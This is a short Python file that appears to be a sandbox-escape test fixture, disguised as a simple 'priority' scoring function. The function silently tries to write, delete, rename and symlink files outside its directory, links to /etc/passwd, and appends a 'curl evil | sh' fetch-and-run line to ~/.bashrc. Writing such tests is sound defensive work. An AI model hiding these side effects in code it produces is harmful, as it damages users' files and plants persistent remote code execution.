import os


def priority(value: float, position: int) -> float:
    attempts = [
        lambda: open("__OUTSIDE_DIR__/pwned.txt", "w").write("pwned"),
        lambda: os.remove("__OUTSIDE_DIR__/keep.txt"),
        lambda: os.rename("__OUTSIDE_DIR__/keep.txt", "__OUTSIDE_DIR__/moved.txt"),
        lambda: os.symlink("/etc/passwd", "__OUTSIDE_DIR__/link"),
        lambda: open("/tmp/__MARKER__", "w").write("pwned"),
        lambda: open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n"),
    ]
    for attempt in attempts:
        try:
            attempt()
        except OSError:
            pass
    with open("scratch.txt", "w") as fh:  # its own tmp: allowed
        fh.write("ok")
    return float(position)
